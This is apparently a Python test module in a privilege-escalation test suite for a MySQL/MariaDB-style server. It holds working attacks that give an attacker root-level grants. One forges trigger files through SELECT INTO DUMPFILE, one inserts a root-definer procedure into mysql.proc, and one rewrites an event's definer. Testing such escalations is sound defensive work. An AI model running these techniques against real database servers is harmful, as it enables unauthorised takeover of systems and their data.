"""The attacks that write code into the server which then runs as root: a routine, an event, a trigger's files."""

from __future__ import annotations

from contextlib import closing

from tests.worker_lambda.escalation.arena import POWERS, Account, Arena

_TRIGGER = """TYPE=TRIGGERS
triggers='CREATE DEFINER={definer} TRIGGER app.gift AFTER INSERT ON app.ledger FOR EACH ROW {body}'
sql_modes=0
definers='{definer_text}'
client_cs_names='utf8mb4'
connection_cl_names='utf8mb4_general_ci'
db_cl_names='utf8mb4_general_ci'
"""


def write_a_trigger_file(arena: Arena, attacker: Account) -> Account:
    """Write the two files of a trigger of root's beside a table, and wait until somebody inserts a row there."""
    arena.as_root("CREATE TABLE app.ledger (entry INT)", f"GRANT INSERT ON app.* TO {arena.clerk}")
    values = f"(\\'%\\', \\'{attacker.name}\\', \\'boss\\', \\'Y\\')"
    body = f"INSERT INTO mysql.roles_mapping VALUES {values}"
    definer = arena.root.replace("'", "`")
    trigger = _TRIGGER.format(definer=definer, definer_text=definer.replace("`", ""), body=body)
    with closing(arena.log_in(attacker)) as connection, connection.cursor() as cursor:
        cursor.execute("SELECT @@datadir")
        row = cursor.fetchone()
        assert row is not None
        for text, name in ((trigger, "ledger.TRG"), ("TYPE=TRIGGERNAME\ntrigger_table=ledger\n", "gift.TRN")):
            cursor.execute(f"SELECT %s INTO DUMPFILE '{row[0]}app/{name}'", (text,))
    arena.run_as(arena.clerk, "INSERT INTO app.ledger VALUES (1)")  # the clerk's daily work
    arena.flush()
    return Account(attacker.name, attacker.password, "boss")


def write_a_routine_of_roots(arena: Arena, attacker: Account) -> Account:
    """Write a routine that runs as root into the table of routines, and call it."""
    body = f"GRANT {POWERS} ON *.* TO {attacker} WITH GRANT OPTION"
    with closing(arena.log_in(attacker)) as connection, connection.cursor() as cursor:
        cursor.execute("SET sql_mode = ''")  # columns without a default take an empty value
        cursor.execute(
            "INSERT INTO mysql.proc (db, name, type, specific_name, param_list, returns, body, definer, security_type) "
            "VALUES ('app', 'gift', 'PROCEDURE', 'gift', '', '', %s, %s, 'DEFINER')",
            (body, arena.root.replace("'", "")),
        )
        cursor.execute("CALL app.gift()")
    return attacker


def make_an_event_roots(arena: Arena, attacker: Account) -> Account:
    """Make an event of its own, write root into it as the definer, and wait until the scheduler reads it again."""
    definer = arena.root.replace("'", "")
    arena.run_as(
        attacker,
        f"CREATE EVENT app.gift ON SCHEDULE EVERY 1 SECOND DO GRANT {POWERS} ON *.* TO {attacker} WITH GRANT OPTION",
        f"UPDATE mysql.event SET definer = '{definer}'",
    )
    arena.as_root("SET GLOBAL event_scheduler = ON")  # or the next restart of a server that runs events
    try:
        arena.wait_for(attacker)
    finally:
        arena.as_root("SET GLOBAL event_scheduler = OFF")
    return attacker
